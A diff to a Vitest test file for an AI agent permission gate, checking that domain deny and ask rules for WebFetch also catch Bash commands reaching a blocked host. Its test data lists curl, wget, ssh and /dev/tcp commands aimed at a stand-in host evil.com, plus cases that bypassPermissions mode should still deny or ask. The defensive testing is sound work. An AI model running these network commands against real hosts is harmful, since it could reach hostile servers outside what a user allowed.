@@ -1,6 +1,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { decideWithClassifier } from '../../src/policy/auto.js';
 import { MODES } from '../../src/policy/mode.js';
 import { loadPolicy, policyFromText } from '../../src/policy/policy.js';
 import {
@@ -415,5 +416,64 @@ describe('when: conditions fail closed (issue 3, item 5)', () => {
     const policy = await policyFromText(text, { root: w.ws });
     expect(decideIn(w, policy, bash('npm publish x', 'bypassPermissions')).behavior).toBe('deny');
     expect(decideIn(w, policy, bash('npm install x')).behavior).not.toBe('allow');
+  });
+});
+
+// ------------------------------------------------------------------------------ domains from Bash
+
+describe('WebFetch(domain:...) deny and ask rules reach Bash commands (a toolgate extension)', () => {
+  const perms = { deny: ['WebFetch(domain:evil.com)'], allow: ['WebFetch(domain:good.com)'] };
+
+  it.each([
+    'curl https://evil.com/x',
+    'curl -s EVIL.COM.',
+    'wget https://evil.com/',
+    'git clone git@evil.com:r.git',
+    'ssh -o HostName=evil.com good',
+    'cat < /dev/tcp/evil.com/80',
+    'timeout 5 curl https://evil.com/',
+  ])('%j is denied in every mode', async (line) => {
+    const policy = await compile(w, perms);
+    for (const mode of ALL_MODES) {
+      const d = decideIn(w, policy, bash(line, mode));
+      expect(d.behavior, mode).toBe('deny');
+      expect(d.rule?.text).toBe('WebFetch(domain:evil.com)');
+      expect(d.reason).toMatch(/connects to evil\.com/);
+    }
+  });
+
+  it('an ask rule asks, even in bypassPermissions mode', async () => {
+    const d = await decideWith(
+      w,
+      { ask: ['WebFetch(domain:*.example.com)'] },
+      bash('curl https://api.example.com/', 'bypassPermissions'),
+    );
+    expect(d.behavior).toBe('ask');
+    expect(d.rule?.text).toBe('WebFetch(domain:*.example.com)');
+  });
+
+  it('a host only known at run time cannot be ruled out: a guard asks, and auto mode does not allow it', async () => {
+    const policy = await compile(w, perms);
+    for (const line of ['curl "$URL"', 'echo https://evil.com | xargs curl', 'wget -i urls.txt']) {
+      const d = decideIn(w, policy, bash(line, 'bypassPermissions'));
+      expect(d.behavior, line).toBe('ask');
+      expect(d.decidedBy).toBe('guard');
+      const auto = await decideWithClassifier(
+        { tool: 'Bash', input: { command: line }, cwd: w.ws, mode: 'auto' },
+        policy,
+        { fs: w.fs },
+      );
+      expect(auto.behavior, line).toBe('deny');
+    }
+  });
+
+  it('other hosts, and commands whose host the line does not name, are decided as before', async () => {
+    const policy = await compile(w, perms);
+    expect(decideIn(w, policy, bash('curl https://good.com/', 'bypassPermissions')).behavior).toBe('allow');
+    expect(decideIn(w, policy, bash('git fetch origin', 'bypassPermissions')).behavior).toBe('allow');
+    // A WebFetch allow rule does not allow Bash: curl still asks in default mode.
+    expect(decideIn(w, policy, bash('curl https://good.com/')).behavior).toBe('ask');
+    // Without domain rules, a run-time host is an ordinary network command.
+    expect((await decideWith(w, {}, bash('curl "$URL"', 'bypassPermissions'))).behavior).toBe('allow');
   });
 });
